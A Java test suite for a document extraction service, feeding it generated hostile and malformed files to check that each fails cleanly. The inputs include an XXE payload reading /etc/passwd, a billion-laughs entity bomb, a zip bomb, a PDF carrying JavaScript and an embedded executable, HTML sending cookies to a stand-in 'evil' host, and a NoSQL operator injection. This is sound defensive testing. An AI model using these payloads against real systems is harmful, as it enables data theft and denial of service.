package io.gongkai.extract.messaging;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.mongodb.client.MongoClient;
import com.mongodb.client.gridfs.GridFSBuckets;
import io.gongkai.model.events.ExtractedEvent;
import io.gongkai.model.events.RawDocumentEvent;
import io.gongkai.testsupport.InMemoryChannels;
import io.gongkai.testsupport.MongoServerResource;
import io.gongkai.testsupport.OutcomeTable;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.smallrye.reactive.messaging.kafka.Record;
import io.smallrye.reactive.messaging.memory.InMemoryConnector;
import io.smallrye.reactive.messaging.memory.InMemorySink;
import jakarta.enterprise.inject.Any;
import jakarta.inject.Inject;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.Random;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.zip.Deflater;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/**
 * The bad-input corpus behind the front door: each hostile or broken document goes through reports.raw exactly as an
 * accepted upload does, and must come out of extract-service as one reports.extracted event, FAILED with a reason users
 * understand (or EXTRACTED with the bad value flagged), within the parse limits: never a crash, a hang, a stuck
 * consumer or silence. All inputs are generated here. Prints the table.
 */
@QuarkusTest
@QuarkusTestResource(MongoServerResource.class)
@QuarkusTestResource(value = InMemoryChannels.class, initArgs = {
        @ResourceArg(name = "incoming", value = "raw"),
        @ResourceArg(name = "outgoing", value = "extracted")})
class BadDocumentCorpusTest {

    static final OutcomeTable TABLE = new OutcomeTable("Bad documents through extract-service (reports.raw -> reports.extracted)");
    private static final String REPORT = "../samples/004_ca1fd1482ab00037.txt";
    private static final String NOT_A_REPORT = "不是政府信息公开工作年度报告";

    @Inject
    @Any
    InMemoryConnector connector;

    @Inject
    MongoClient mongo;

    @Inject
    ObjectMapper json;

    @AfterAll
    static void print() {
        TABLE.print();
    }

    private ExtractedEvent extract(byte[] bytes) throws Exception {
        String sha = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        GridFSBuckets.create(mongo.getDatabase("gongkai-ingest"), "raw").uploadFromStream(sha, new ByteArrayInputStream(bytes));
        String id = UUID.randomUUID().toString().replace("-", "");
        InMemorySink<Record<String, String>> sink = connector.sink("extracted");
        connector.source("raw").send(json.writeValueAsString(
                new RawDocumentEvent(id, sha, bytes.length, "x", "application/octet-stream", null, null, Instant.now())));
        await().atMost(Duration.ofSeconds(120)).until(() -> sink.received().stream().anyMatch(m -> id.equals(m.getPayload().key())));
        Record<String, String> out = sink.received().stream().filter(m -> id.equals(m.getPayload().key())).findFirst().orElseThrow()
                .getPayload();
        assertEquals(1, sink.received().stream().filter(m -> id.equals(m.getPayload().key())).count(), "one event per document");
        return json.readValue(out.value(), ExtractedEvent.class);
    }

    /** Asserts a FAILED event whose reason contains the words users are told, and records the row. */
    private void failed(String input, byte[] bytes, String reasonContains) throws Exception {
        ExtractedEvent out = extract(bytes);
        TABLE.add(input, reasonContains.isEmpty() ? "FAILED with a reason" : "FAILED “…" + reasonContains + "…”", out.status() + " " + out.error());
        assertEquals(ExtractedEvent.FAILED, out.status(), input + ": " + out.error());
        assertNotNull(out.error(), input);
        assertTrue(out.error().contains(reasonContains), input + ": " + out.error());
    }

    private static byte[] report() throws IOException {
        return Files.readAllBytes(Path.of(REPORT));
    }

    private static String reportText() throws IOException {
        return Files.readString(Path.of(REPORT));
    }

    private static byte[] pdf(Consumer<PDDocument> build) throws IOException {
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            build.accept(doc);
            doc.save(out);
            return out.toByteArray();
        }
    }

    private static void textPage(PDDocument doc, String text) {
        try {
            PDPage page = new PDPage();
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(text);
                content.endText();
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static byte[] zip(String[][] entries) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (String[] e : entries) {
                zip.putNextEntry(new ZipEntry(e[0]));
                zip.write(e[1].getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    private static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    private static final String RELS = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";

    private static String wordBody(String paragraphs) {
        return "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>" + paragraphs + "</w:body></w:document>";
    }

    // ------------------------------------------------------------------ empty, tiny, noise, not documents

    @Test
    void emptyTinyAndNoise() throws Exception {
        failed("one byte 'a'", "a".getBytes(StandardCharsets.US_ASCII), NOT_A_REPORT);
        failed("whitespace only", " \n\t\r\n   ".getBytes(StandardCharsets.US_ASCII), "empty");
        byte[] noise = new byte[65_536];
        new Random(13).nextBytes(noise);
        noise[0] = 1;
        failed("64 KiB random binary", noise, "neither text nor a known document format");
        byte[] nul = new byte[4096];
        failed("4 KiB of NUL bytes", nul, "");
        ByteArrayOutputStream gz = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(gz)) {
            out.write(report());
        }
        failed("gzip of a report", gz.toByteArray(), "");
        failed("zip of a report (not Word)", zip(new String[][] {{"report.txt", reportText()}}), "archive");
    }

    // ------------------------------------------------------------------ PDFs

    @Test
    void brokenPdfs() throws Exception {
        byte[] good = pdf(doc -> textPage(doc, "Annual report on government information disclosure 2023"));
        failed("truncated PDF (first half)", Arrays.copyOf(good, good.length / 2), "");
        byte[] damaged = good.clone();
        for (int i = 200; i < damaged.length - 200; i += 7) {
            damaged[i] = (byte) (damaged[i] ^ 0x5A);
        }
        failed("damaged PDF (bytes flipped throughout)", damaged, "");
        failed("'%PDF-1.7' header then garbage", ("%PDF-1.7\n" + "garbage ".repeat(500)).getBytes(StandardCharsets.ISO_8859_1), "PDF");
        failed("encrypted PDF (user password)", pdf(doc -> {
            textPage(doc, "secret");
            try {
                StandardProtectionPolicy policy = new StandardProtectionPolicy("owner", "user-secret", new AccessPermission());
                policy.setEncryptionKeyLength(128);
                doc.protect(policy);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }), "encrypted");
        failed("PDF with 3,000 pages", pdf(doc -> {
            for (int i = 0; i < 3000; i++) {
                doc.addPage(new PDPage());
            }
        }), "more than");
        failed("PDF whose page tree claims 1,000,000 pages", ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                + "2 0 obj<</Type/Pages/Count 1000000/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
                + "trailer<</Root 1 0 R>>\n%%EOF").getBytes(StandardCharsets.ISO_8859_1), "");
        StringBuilder nested = new StringBuilder("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Deep ");
        nested.append("[".repeat(200_000)).append("]".repeat(200_000));
        nested.append(">>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
                + "trailer<</Root 1 0 R>>\n%%EOF");
        failed("PDF with arrays nested 200,000 deep", nested.toString().getBytes(StandardCharsets.ISO_8859_1), "");
        StringBuilder dicts = new StringBuilder("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Deep ");
        dicts.append("<</A ".repeat(50_000)).append("1").append(">>".repeat(50_000));
        dicts.append(">>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
                + "trailer<</Root 1 0 R>>\n%%EOF");
        failed("PDF with dictionaries nested 50,000 deep", dicts.toString().getBytes(StandardCharsets.ISO_8859_1), "");
        failed("PDF with an object that refers to itself (1 0 R loop)", ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                + "2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF").getBytes(StandardCharsets.ISO_8859_1), "");
        byte[] script = pdf(doc -> {
            textPage(doc, "Quarterly newsletter of the bureau");
            doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('pwned'); this.exportDataObject({cName:'x'});"));
            try {
                PDEmbeddedFile file = new PDEmbeddedFile(doc, new ByteArrayInputStream("MZ evil".getBytes(StandardCharsets.US_ASCII)));
                PDComplexFileSpecification spec = new PDComplexFileSpecification();
                spec.setFile("evil.exe");
                spec.setEmbeddedFile(file);
                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(java.util.Map.of("evil.exe", spec));
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                doc.getDocumentCatalog().setNames(names);
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        ExtractedEvent out = extract(script);
        TABLE.add("PDF with JavaScript OpenAction and an embedded .exe", "FAILED not a report; script and attachment ignored",
                out.status() + " " + out.error());
        assertEquals(ExtractedEvent.FAILED, out.status());
        assertFalse(json.writeValueAsString(out).contains("pwned"), "the script is never read into the event");
    }

    // ------------------------------------------------------------------ Word

    @Test
    void hostileWordFiles() throws Exception {
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bomb)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write(CONTENT_TYPES.getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("_rels/.rels"));
            zip.write(RELS.getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            byte[] head = wordBody("<w:p><w:r><w:t>").replace("</w:body></w:document>", "").getBytes(StandardCharsets.UTF_8);
            zip.write(head);
            byte[] spaces = new byte[1 << 20];
            Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < 200; i++) { // 200 MB of spaces, about 200 kB compressed
                zip.write(spaces);
            }
            zip.write("</w:t></w:r></w:p></w:body></w:document>".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
        failed("zip bomb as DOCX (200 MB of spaces, " + bomb.size() / 1024 + " kB packed)", bomb.toByteArray(), "");
        byte[] xxe = zip(new String[][] {{"[Content_Types].xml", CONTENT_TYPES}, {"_rels/.rels", RELS},
                {"word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                        + wordBody("<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>")}});
        ExtractedEvent out = extract(xxe);
        TABLE.add("DOCX with an external entity (XXE, file:///etc/passwd)", "FAILED, the file is never read", out.status() + " " + out.error());
        assertEquals(ExtractedEvent.FAILED, out.status());
        assertFalse(json.writeValueAsString(out).contains("root:"), "/etc/passwd never reaches the event");
        byte[] billion = zip(new String[][] {{"[Content_Types].xml", CONTENT_TYPES}, {"_rels/.rels", RELS},
                {"word/document.xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                        + "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]>"
                        + wordBody("<w:p><w:r><w:t>&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;</w:t></w:r></w:p>")}});
        failed("DOCX with nested entities (billion laughs)", billion, "");
        failed("DOCX without word/document.xml", zip(new String[][] {{"[Content_Types].xml", CONTENT_TYPES}, {"_rels/.rels", RELS}}), "");
        byte[] ole = new byte[8192];
        System.arraycopy(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, 0, ole, 0, 8);
        new Random(3).nextBytes(Arrays.copyOfRange(ole, 8, ole.length));
        failed("OLE2 header then garbage (damaged .doc)", ole, "");
    }

    // ------------------------------------------------------------------ HTML and text

    @Test
    void hostileHtmlAndText() throws Exception {
        String scripted = "<html><body><script>document.location='http://evil/'+document.cookie</script>"
                + "<iframe src=\"http://evil/\"></iframe><img src=x onerror=\"alert('pwned')\"><p>本局新闻：今天召开会议。</p></body></html>";
        ExtractedEvent out = extract(scripted.getBytes(StandardCharsets.UTF_8));
        TABLE.add("HTML with script, iframe and onerror (no report)", "FAILED not a report; no script text kept", out.status() + " " + out.error());
        assertEquals(ExtractedEvent.FAILED, out.status());
        assertFalse(json.writeValueAsString(out).contains("pwned"));
        String report = reportText().replace("\n", "<br>\n");
        out = extract(("<html><body><script>alert('pwned')</script><img src=x onerror=\"alert('pwned')\"><iframe src=\"javascript:alert('pwned')\"></iframe><pre>"
                + report + "</pre></body></html>").getBytes(StandardCharsets.UTF_8));
        TABLE.add("a report in HTML with script, iframe and onerror", "EXTRACTED; no script text in the report", out.status() + " " + out.error());
        assertEquals(ExtractedEvent.EXTRACTED, out.status(), out.error());
        assertFalse(json.writeValueAsString(out.report()).contains("pwned"));
        failed("HTML nested 100,000 <div> deep", ("<html><body>" + "<div>".repeat(100_000) + "年度报告" + "</div>".repeat(100_000)
                + "</body></html>").getBytes(StandardCharsets.UTF_8), NOT_A_REPORT);
        failed("HTML with tables nested 5,000 deep", ("<html><body>" + "<table><tr><td>".repeat(5_000) + "1" + "</td></tr></table>".repeat(5_000)
                + "</body></html>").getBytes(StandardCharsets.UTF_8), NOT_A_REPORT);
        byte[] line = new byte[20 << 20];
        Arrays.fill(line, (byte) 'a');
        failed("20 MB single-line text", line, NOT_A_REPORT);
        byte[] cjkLine = ("政府信息公开".repeat(1_200_000)).getBytes(StandardCharsets.UTF_8);
        failed("21 MB single line of 政府信息公开", cjkLine, NOT_A_REPORT);
        failed("invalid UTF-8 (lone continuation bytes)", new byte[] {(byte) 0x80, (byte) 0x81, (byte) 0xBF, 0x41, (byte) 0xC0, (byte) 0xAF}, "");
    }

    // ------------------------------------------------------------------ documents that are not annual reports

    @Test
    void documentsThatAreNotAnnualReports() throws Exception {
        failed("a 部门决算 report", ("某某市财政局2023年度部门决算\n一、部门基本情况\n（一）部门职责\n二、收入支出决算总表\n"
                + "项目\t决算数\n一般公共预算财政拨款收入\t1234.56\n支出合计\t1200.00\n三、政府性基金预算财政拨款收入支出决算表\n")
                .getBytes(StandardCharsets.UTF_8), NOT_A_REPORT);
        failed("a 政务公开工作要点", ("2024年某某县政务公开工作要点\n一、围绕稳经济促发展加强政策发布解读\n（一）加大政策公开力度。\n"
                + "二、围绕保障和改善民生做好信息公开\n三、持续提升政务公开标准化规范化水平\n各单位要按照本要点要求抓好落实。\n")
                .getBytes(StandardCharsets.UTF_8), NOT_A_REPORT);
        failed("a news page", ("<html><head><title>县政府召开常务会议</title></head><body><h1>县政府召开常务会议</h1>"
                + "<p>3月1日，县长主持召开县政府常务会议，研究部署政府信息公开和政务服务工作。</p><p>来源：县政府办公室</p></body></html>")
                .getBytes(StandardCharsets.UTF_8), NOT_A_REPORT);
        failed("a 2023 年度报告 listing page (titles only)", ("<html><body><ul><li><a href=\"a.html\">某某局2023年政府信息公开工作年度报告</a></li>"
                + "<li><a href=\"b.html\">某某局2022年政府信息公开工作年度报告</a></li></ul></body></html>").getBytes(StandardCharsets.UTF_8),
                NOT_A_REPORT);
    }

    // ------------------------------------------------------------------ reports with absurd or doubled content

    /**
     * The sample with one table cell replaced. What users rely on: the report is still read, and the cell is either
     * read as the number it means (1,234; full-width digits) or left for validate-service's INVALID_VALUE rule, which
     * flags a cell whose value is negative or fractional, or whose printed text is not a number (value null, text kept).
     */
    private void absurdValue(String printed, String means) throws Exception {
        String text = reportText();
        assertTrue(text.contains("行政规范性文件\t407\t2\t412"), "the sample still has the row this test edits");
        ExtractedEvent out = extract(text.replace("行政规范性文件\t407\t2\t412", "行政规范性文件\t" + printed + "\t2\t412")
                .getBytes(StandardCharsets.UTF_8));
        String path = "activeDisclosure.normativeDocuments.issued";
        BigDecimal read = out.report() == null ? null : out.report().value(path);
        String raw = out.report() == null || out.report().provenance().get(path) == null ? null : out.report().provenance().get(path).rawText();
        TABLE.add("table value " + printed, means != null ? "EXTRACTED, read as " + means : "EXTRACTED, left for INVALID_VALUE",
                out.status() + " value=" + read + " rawText=" + raw);
        assertEquals(ExtractedEvent.EXTRACTED, out.status(), out.error());
        if (means != null) {
            assertNotNull(read, printed);
            assertEquals(0, new BigDecimal(means).compareTo(read), printed);
        } else {
            boolean invalid = read == null ? raw != null && raw.contains(printed.strip())
                    : read.signum() < 0 || read.stripTrailingZeros().scale() > 0;
            assertTrue(invalid, printed + " was read as " + read + " (raw " + raw + "): INVALID_VALUE could not flag it");
        }
    }

    @Test
    void absurdNumbersInTables() throws Exception {
        absurdValue("1,234", "1234");
        absurdValue("４０７", "407");
        absurdValue("1e30", null);
        absurdValue("-5", null);
        absurdValue("3.7", null);
        absurdValue("约200", null);
        absurdValue("NaN", null);
        // read exactly (no overflow, no rounding); validate-service's INVALID_VALUE flags a count this large
        absurdValue("99999999999999999999", "99999999999999999999");
    }

    @Test
    void twoReportsInOneFile() throws Exception {
        String second = Files.readString(Path.of("../samples/000_f8a12ae11966356f.txt"));
        ExtractedEvent out = extract((reportText() + "\n\n" + second).getBytes(StandardCharsets.UTF_8));
        String findings = out.report() == null ? "" : out.report().extractionFindings().stream().map(f -> f.code()).distinct().toList().toString();
        TABLE.add("two reports concatenated in one file", "FAILED, or EXTRACTED with a finding", out.status() + " " + out.error() + " " + findings);
        assertTrue(ExtractedEvent.FAILED.equals(out.status()) || !out.report().extractionFindings().isEmpty(), findings);
    }

    // ------------------------------------------------------------------ poison records on reports.raw

    @Test
    void poisonRecordsAreDeadLetteredAndTheConsumerGoesOn() throws Exception {
        InMemorySink<Record<String, String>> sink = connector.sink("extracted");
        for (String poison : new String[] {"{not json", "", "null", "[]", "{\"sha256\":\"00\"}", "{\"documentId\":\"x\"}",
                "{\"documentId\":{\"$ne\":1},\"sha256\":\"00\"}", "\u0000\u0001binary"}) {
            int before = sink.received().size();
            connector.source("raw").send(poison);
            ExtractedEvent next = extract(report());
            boolean answered = sink.received().size() == before + 1;
            TABLE.add("poison on reports.raw: " + poison.replaceAll("\\p{Cntrl}", "?"), "no event (dead letter), next report EXTRACTED",
                    (answered ? "no event" : "event!") + ", next " + next.status());
            assertEquals(ExtractedEvent.EXTRACTED, next.status(), next.error());
        }
    }
}
